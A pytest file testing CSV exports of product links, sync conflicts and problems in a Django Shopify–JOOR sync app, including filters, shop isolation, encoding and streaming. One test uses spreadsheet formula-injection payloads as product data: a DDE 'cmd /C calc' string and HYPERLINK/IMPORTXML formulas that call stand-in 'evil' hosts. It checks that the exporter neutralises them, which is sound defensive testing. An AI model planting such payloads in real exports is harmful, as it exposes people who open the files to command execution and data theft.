"""CSV exports of `/links`, `/conflicts` and `/problems`: merchant columns, the list's own filters,
one shop only, formulas neutralised, a UTF-8 file Excel opens, streamed however long."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime, timedelta, timezone
from types import SimpleNamespace

import pytest
from django.http import StreamingHttpResponse
from django.test import Client
from django.utils import timezone as dj_timezone

from joorsync.sync.models import Conflict, ProductLink, ProductProblem
from joorsync.sync.ui import exports, labels
from joorsync.sync.ui.views import exports as export_views
from tests.shopify_app.app_support import session_token
from tests.sync.jobs_support import make_conflict, make_link
from tests.sync.test_selectors import make_problem
from tests.sync.ui.conftest import SHOP

pytestmark = pytest.mark.django_db

URLS = ("/links/export.csv", "/conflicts/export.csv", "/problems/export.csv")


def body_of(response: StreamingHttpResponse) -> str:
    return b"".join(response.streaming_content).decode("utf-8")


def table(response: StreamingHttpResponse) -> list[list[str]]:
    """Header and rows of an export (after checking it is a streamed CSV with a BOM)."""
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    text = body_of(response)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def records(response: StreamingHttpResponse) -> list[dict[str, str]]:
    header, *rows = table(response)
    return [dict(zip(header, row, strict=True)) for row in rows]


# -- links --------------------------------------------------------------------------------------


def test_links_export_has_merchant_columns_and_values(client_in, shop):
    synced = datetime(2026, 11, 30, 9, 15, 42, 123456, tzinfo=UTC)
    make_link(
        shop, 1, shopify_title="Wool coat", joor_name="Coat in wool", method="barcode", last_synced_at=synced
    )
    make_link(shop, 2, status="unmatched_joor", shopify_product_id="", joor_name="Linen shirt")
    header, *rows = table(client_in.get("/links/export.csv"))
    assert header == [
        "Status",
        "Shopify product",
        "Shopify admin link",
        "JOOR style number",
        "JOOR style name",
        "Linked by",
        "Last synced",
        "Why not linked",
    ]
    assert rows == [
        ["Only in JOOR", "", "", "ST-2", "Linen shirt", "", "", "No Shopify product matches this style"],
        [
            "Linked",
            "Wool coat",
            "https://admin.shopify.com/store/demo/products/1",
            "ST-1",
            "Coat in wool",
            "Barcode/UPC",
            "2026-11-30T09:15:42Z",
            "",
        ],
    ]


def listed_links(body: str) -> list[int]:
    return [int(n) for n in re.findall(r'<tr id="link-(\d+)">', body)]


@pytest.mark.parametrize(
    "params",
    [
        {},
        {"status": "linked"},
        {"status": "unmatched"},
        {"q": "silk"},
        {"q": "5003"},
        {"status": "nonsense"},
        {"link": "first"},
        {"link": "first", "status": "unmatched"},
    ],
)
def test_links_export_has_the_rows_the_list_shows(client_in, shop, params):
    coat = make_link(shop, 1, shopify_title="Wool coat")
    make_link(shop, 2, shopify_title="Silk dress")
    make_link(shop, 3, status="unmatched_joor", shopify_product_id="", joor_name="Linen shirt")
    make_link(shop, 4, status="unmatched_shopify", joor_style_id=None, shopify_title="Silk scarf")
    if params.get("link") == "first":
        params = {**params, "link": str(coat.pk)}
    style_of = dict(ProductLink.objects.filter(shop=shop).values_list("pk", "style_number"))
    page = [style_of[pk] for pk in listed_links(client_in.get("/links", params).content.decode())]
    exported = [row["JOOR style number"] for row in records(client_in.get("/links/export.csv", params))]
    assert exported == page
    assert page or params.get("status") == "unmatched"


# -- conflicts ----------------------------------------------------------------------------------


def test_conflicts_export_has_merchant_columns_and_values(client_in, shop):
    coat = make_link(shop, 1, shopify_title="Wool coat", snapshot={"variants[BLK/M].color_name": "Navy"})
    make_conflict(shop, coat, path="variants[BLK/M].price", base_value=10, shopify_value=11, joor_value=None)
    resolved_at = datetime(2026, 11, 29, 18, 0, tzinfo=UTC)
    make_conflict(
        shop,
        coat,
        path="tags",
        base_value=["wool"],
        shopify_value=["wool", "sale"],
        joor_value=["laine", "été"],
        status=Conflict.Status.RESOLVED,
        resolution=Conflict.Resolution.KEEP_JOOR,
        resolved_by="sandbox:demo.myshopify.com",
        resolved_at=resolved_at,
    )
    open_rows = records(client_in.get("/conflicts/export.csv"))
    assert list(open_rows[0]) == [
        "Product",
        "Style number",
        "Field",
        "Shopify value",
        "JOOR value",
        "Last synced value",
        "Status",
        "Opened at",
        "Resolution",
        "Resolved by",
        "Resolved at",
    ]
    [row] = open_rows
    assert (row["Product"], row["Style number"], row["Field"]) == ("Wool coat", "ST-1", "Price — Navy / M")
    assert (row["Shopify value"], row["JOOR value"], row["Last synced value"]) == ("11", "(empty)", "10")
    assert (row["Status"], row["Resolution"], row["Resolved by"], row["Resolved at"]) == ("Open", "", "", "")
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", row["Opened at"])
    [history] = records(client_in.get("/conflicts/export.csv", {"status": "resolved"}))
    assert (history["Field"], history["Shopify value"], history["JOOR value"]) == (
        "Tags",
        "wool, sale",
        "laine, été",
    )
    assert (history["Status"], history["Resolution"]) == ("Resolved", "Kept JOOR's value")
    assert (history["Resolved by"], history["Resolved at"]) == (
        "you (sandbox sign-in)",
        "2026-11-29T18:00:00Z",
    )


def listed_conflicts(body: str) -> list[int]:
    return [int(n) for n in re.findall(r'<a href="/conflicts/(\d+)">#', body)]


@pytest.mark.parametrize(
    "params",
    [
        {},
        {"field": "price"},
        {"field": "title"},
        {"product": "silk"},
        {"product": "ST-1"},
        {"older_than": "7"},
        {"status": "resolved"},
        {"status": "resolved", "product": "ST-3"},
    ],
)
def test_conflicts_export_has_the_rows_the_list_shows(client_in, shop, params):
    coat, dress = make_link(shop, 1), make_link(shop, 2, shopify_title="Silk dress")
    make_conflict(shop, coat)
    make_conflict(shop, coat, path="variants[BLK/M].price", shopify_value=10, joor_value=12)
    old = make_conflict(shop, dress)
    Conflict.objects.filter(pk=old.pk).update(created_at=dj_timezone.now() - timedelta(days=10))
    for n in (3, 4):
        make_conflict(shop, make_link(shop, n), status="resolved", resolution="keep_shopify")

    def key(conflict: Conflict) -> tuple[str, str]:
        return (conflict.link.style_number, labels.field_label(conflict.field_path))

    by_pk = {c.pk: key(c) for c in Conflict.objects.filter(shop=shop).select_related("link")}
    page = [by_pk[pk] for pk in listed_conflicts(client_in.get("/conflicts", params).content.decode())]
    exported = [
        (r["Style number"], r["Field"]) for r in records(client_in.get("/conflicts/export.csv", params))
    ]
    assert exported == page and page


# -- problems -----------------------------------------------------------------------------------


def test_problems_export_lists_open_problems_oldest_first_in_the_pages_words(client_in, shop):
    link = make_link(shop, 1, shopify_title="Wool coat", snapshot={"variants[BLK/M].color_name": "Navy"})
    other = make_link(shop, 2, shopify_title="Silk dress")
    older = make_problem(shop, 1, link=link, title="Wool coat, long title")
    newer = make_problem(
        shop,
        2,
        title="",
        side="shopify",
        code="no_price",
        field_path="",
        message="No EUR price for label Retail: created as a draft",
        subject="joor:5002",
    )
    variant = make_problem(
        shop,
        3,
        link=link,
        title="",
        field_path="variants[BLK/M].price",
        message=f"Variant BLK/M is also in {other.shopify_product_id}",
    )
    make_problem(shop, 4, status=ProductProblem.Status.SOLVED, title="Fixed long ago")
    ProductProblem.objects.filter(pk=older.pk).update(created_at=newer.created_at - timedelta(days=2))
    ProductProblem.objects.filter(pk=variant.pk).update(created_at=newer.created_at + timedelta(days=1))
    header, *rows = table(client_in.get("/problems/export.csv"))
    assert header == ["Product", "Style number", "Side", "What went wrong", "Field", "Since", "Status"]
    older.refresh_from_db()
    assert rows == [
        [
            "Wool coat, long title",
            "ST-1",
            "JOOR",
            "JOOR allows 100 characters in a style name; this title has 108",
            "Title",
            exports.iso_utc(older.created_at),
            "Open",
        ],
        [
            "JOOR style 5002",
            "",
            "Shopify",
            "No EUR price for label Retail: created as a draft",
            "",
            rows[1][5],
            "Open",
        ],
        [
            "Wool coat",
            "ST-1",
            "JOOR",
            "Variant Navy / M is also in Silk dress",
            "Price — Navy / M",
            rows[2][5],
            "Open",
        ],
    ]


def test_problems_export_has_the_rows_the_list_shows(client_in, shop):
    for n in range(5):
        make_problem(shop, n, title=f"Product {n}")
    make_problem(shop, 9, status=ProductProblem.Status.SOLVED, title="Solved")
    title_of = dict(ProductProblem.objects.filter(shop=shop).values_list("pk", "title"))
    body = client_in.get("/problems").content.decode()
    page = [title_of[int(pk)] for pk in re.findall(r'<tr id="problem-(\d+)">', body)]
    exported = [row["Product"] for row in records(client_in.get("/problems/export.csv", {"page": "2"}))]
    assert exported == page and len(page) == 5


# -- every export -------------------------------------------------------------------------------


def test_another_shops_rows_are_never_exported(client_in, shop, other_shop):
    theirs = make_link(other_shop, 1, shopify_title="Their secret coat", style_number="THEIRS-1")
    make_conflict(other_shop, theirs, shopify_value="their secret value")
    make_conflict(other_shop, theirs, path="body", status="resolved", resolution="keep_joor")
    make_problem(other_shop, 1, title="Their secret problem")
    mine = make_link(shop, 1, shopify_title="My coat")
    make_conflict(shop, mine)
    make_problem(shop, 1, link=mine)
    for url in URLS:
        for params in ({}, {"status": "resolved"}, {"q": "secret"}, {"product": "THEIRS-1"}):
            text = body_of(client_in.get(url, params))
            assert "secret" not in text and "THEIRS" not in text, (url, params)
    assert len(table(client_in.get("/links/export.csv"))) == 2


def test_formulas_from_shopify_and_joor_are_written_as_text(client_in, shop):
    link = make_link(
        shop,
        1,
        shopify_title='=HYPERLINK("http://evil.example","Click")',
        joor_name="+1+cmd|' /C calc'!A0",
        style_number="-2+3",
    )
    make_conflict(shop, link, shopify_value="@SUM(A1:A9)", joor_value="\t=1+1", base_value="\r=2")
    make_problem(shop, 1, link=link, title="", message='=IMPORTXML(CONCAT("http://evil",A1))')
    [row] = records(client_in.get("/links/export.csv"))
    assert row["Shopify product"] == '\'=HYPERLINK("http://evil.example","Click")'
    assert row["JOOR style name"] == "'+1+cmd|' /C calc'!A0" and row["JOOR style number"] == "'-2+3"
    [conflict] = records(client_in.get("/conflicts/export.csv"))
    assert conflict["Product"] == '\'=HYPERLINK("http://evil.example","Click")'
    assert conflict["Style number"] == "'-2+3" and conflict["Shopify value"] == "'@SUM(A1:A9)"
    assert conflict["JOOR value"] == "'\t=1+1" and conflict["Last synced value"] == "'\r=2"
    [problem] = records(client_in.get("/problems/export.csv"))
    assert problem["What went wrong"].startswith("'=IMPORTXML")
    assert problem["Product"] == '\'=HYPERLINK("http://evil.example","Click")'


def test_safe_cell_leaves_ordinary_text_alone():
    for text in ("Wool coat", "", "1.5", "a=b", " =x", "'quoted"):
        assert exports.safe_cell(text) == text
    for text in ("=1", "+1", "-1", "@x", "\tx", "\rx"):
        assert exports.safe_cell(text) == "'" + text


def test_dates_are_iso_8601_in_utc():
    paris = timezone(timedelta(hours=1))
    assert exports.iso_utc(datetime(2026, 12, 1, 0, 30, 5, 999, tzinfo=paris)) == "2026-11-30T23:30:05Z"
    assert exports.iso_utc(None) == ""


def test_utf8_with_bom_content_type_filename_and_no_caching(client_in, shop, monkeypatch):
    make_link(shop, 1, shopify_title="Café crème – Größe 38", joor_name="Ñandú 雪")
    late_evening = datetime(2026, 11, 30, 23, 59, tzinfo=UTC)
    monkeypatch.setattr(export_views, "timezone", SimpleNamespace(now=lambda: late_evening))
    for url, name in zip(URLS, ("links", "conflicts", "problems"), strict=True):
        response = client_in.get(url)
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert (
            response["Content-Disposition"] == f'attachment; filename="joorsync-{name}-demo-2026-11-30.csv"'
        )
        assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]
        raw = b"".join(response.streaming_content)
        assert raw.startswith(b"\xef\xbb\xbf")
    [row] = records(client_in.get("/links/export.csv"))
    assert (row["Shopify product"], row["JOOR style name"]) == ("Café crème – Größe 38", "Ñandú 雪")


def test_an_empty_list_exports_just_the_header(client_in, shop):
    for url in URLS:
        assert len(table(client_in.get(url))) == 1


def test_signed_out_requests_get_the_401_page(sandbox_mode, shop):
    make_link(shop, 1, shopify_title="Wool coat")
    for url in (*URLS, "/orders/export.csv"):
        response = Client().get(url)
        assert response.status_code == 401, url
        assert response["X-Shopify-Retry-Invalid-Session-Request"] == "1"
        assert "Wool coat" not in response.content.decode()


def test_only_get_is_allowed(client_in):
    for url in (*URLS, "/orders/export.csv"):
        assert client_in.post(url).status_code == 405, url


def test_a_session_token_exports_its_own_shop(settings, shop, other_shop):
    settings.SANDBOX_MODE = False
    make_link(shop, 1, shopify_title="Mine")
    make_link(other_shop, 1, shopify_title="Theirs")
    headers = {"Authorization": f"Bearer {session_token(shop=SHOP)}"}
    [row] = records(Client().get("/links/export.csv", headers=headers))
    assert row["Shopify product"] == "Mine"
    # A download is a plain navigation: inside Shopify admin it carries the token as `id_token`.
    [row] = records(Client().get("/links/export.csv", {"id_token": session_token(shop=SHOP)}))
    assert row["Shopify product"] == "Mine"


def test_a_large_export_streams_in_chunks_with_a_few_queries(client_in, shop, django_assert_max_num_queries):
    ProductLink.objects.bulk_create(
        ProductLink(
            shop=shop,
            shopify_product_id=f"gid://shopify/Product/{n}",
            joor_style_id=10_000 + n,
            style_number=f"ST-{n}",
            shopify_title=f"Product {n}",
            snapshot={"title": f"Product {n}", "body": "x" * 200},
        )
        for n in range(5000)
    )
    links = list(ProductLink.objects.filter(shop=shop).only("pk")[:5000:10])
    Conflict.objects.bulk_create(
        Conflict(shop=shop, link=link, field_path="title", shopify_value="a", joor_value="b")
        for link in links
    )
    ProductProblem.objects.bulk_create(
        ProductProblem(shop=shop, link=link, subject=f"link:{link.pk}", code="too_long", message="long")
        for link in links
    )
    with django_assert_max_num_queries(12):
        response = client_in.get("/links/export.csv")
        chunks = list(response.streaming_content)
    assert len(chunks) >= 5000 // exports.ROWS_PER_CHUNK
    rows = list(csv.reader(io.StringIO(b"".join(chunks).decode("utf-8")[1:])))
    assert len(rows) == 5001 and rows[1][3] == "ST-4999" and rows[-1][3] == "ST-0"
    for url in ("/conflicts/export.csv", "/problems/export.csv"):
        with django_assert_max_num_queries(12):
            assert len(table(client_in.get(url))) == 501


def test_a_large_conflict_export_names_every_variant(client_in, shop):
    """Colour names are looked up a batch of rows at a time, so every row of a long export has them."""
    links = ProductLink.objects.bulk_create(
        ProductLink(
            shop=shop,
            shopify_product_id=f"gid://shopify/Product/{n}",
            joor_style_id=10_000 + n,
            style_number=f"ST-{n}",
            snapshot={f"variants[C{n}/{size}].color_name": f"Colour {n}" for size in range(10)},
        )
        for n in range(500)
    )
    Conflict.objects.bulk_create(
        Conflict(
            shop=shop, link=link, field_path=f"variants[C{n}/{size}].price", shopify_value=1, joor_value=2
        )
        for n, link in enumerate(links)
        for size in range(10)
    )
    rows = records(client_in.get("/conflicts/export.csv"))
    assert len(rows) == 5000
    fields = {(row["Style number"], row["Field"]) for row in rows}
    assert fields == {(f"ST-{n}", f"Price — Colour {n} / {size}") for n in range(500) for size in range(10)}


# -- the links on the lists ---------------------------------------------------------------------


def test_each_list_links_to_its_export_with_its_filters(client_in, shop):
    links = client_in.get("/links", {"status": "linked", "q": "silk dress", "page": "1"}).content.decode()
    assert (
        'href="/links/export.csv?status=linked&amp;q=silk%20dress" hx-boost="false" download>Export CSV</a>'
        in links
    )
    conflicts = client_in.get(
        "/conflicts", {"status": "resolved", "field": "price", "product": "ST/1", "older_than": "7"}
    ).content.decode()
    assert (
        'href="/conflicts/export.csv?status=resolved&amp;field=price&amp;product=ST%2F1&amp;older_than=7"'
        in conflicts
    )
    assert 'href="/conflicts/export.csv?status=open&amp;field=&amp;product=&amp;older_than="' in (
        client_in.get("/conflicts").content.decode()
    )
    coat = make_link(shop, 1)
    one = client_in.get("/links", {"link": coat.pk}).content.decode()
    assert f'href="/links/export.csv?status=&amp;q=&amp;link={coat.pk}"' in one
    problems = client_in.get("/problems").content.decode()
    assert 'href="/problems/export.csv" hx-boost="false" download>Export CSV</a>' in problems
